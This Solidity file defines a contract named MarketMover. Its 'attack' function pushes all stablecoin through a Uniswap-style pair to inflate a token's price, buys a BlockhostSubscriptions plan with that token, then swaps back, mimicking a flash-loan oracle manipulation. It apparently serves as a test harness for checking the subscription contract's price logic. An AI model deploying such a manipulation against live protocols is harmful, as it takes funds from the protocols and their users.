// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {BlockhostSubscriptions} from "../BlockhostSubscriptions.sol";

interface IPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112 reserve0, uint112 reserve1, uint32 blockTimestampLast);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

/// Makes a token dear with much money, pays a subscription with it, and takes its money back: what somebody does with a loan
/// for one transaction.
contract MarketMover {
    IPair private immutable pair;
    IERC20 private immutable token;
    IERC20 private immutable stable;

    constructor(IPair pair_, IERC20 token_, IERC20 stable_) {
        (pair, token, stable) = (pair_, token_, stable_);
    }

    function attack(BlockhostSubscriptions shop, uint256 planId, uint256 days_, uint256 methodId) external {
        push();
        buy(shop, planId, days_, methodId);
        pull();
    }

    function push() public {
        swapAll(stable, token);
    }

    function buy(BlockhostSubscriptions shop, uint256 planId, uint256 days_, uint256 methodId) public {
        token.approve(address(shop), type(uint256).max);
        shop.buySubscription(planId, days_, methodId, "");
    }

    function pull() public {
        swapAll(token, stable);
    }

    function swapAll(IERC20 from, IERC20 to) private {
        (uint256 reserveIn, uint256 reserveOut,) = pair.getReserves();
        bool fromFirst = pair.token0() == address(from);
        if (!fromFirst) (reserveIn, reserveOut) = (reserveOut, reserveIn);
        uint256 amountIn = from.balanceOf(address(this));
        require(from.transfer(address(pair), amountIn));
        uint256 withFee = amountIn * 997;
        uint256 out = withFee * reserveOut / (reserveIn * 1000 + withFee);
        pair.swap(fromFirst ? 0 : out, fromFirst ? out : 0, address(this), "");
        require(to.balanceOf(address(this)) >= out);
    }
}
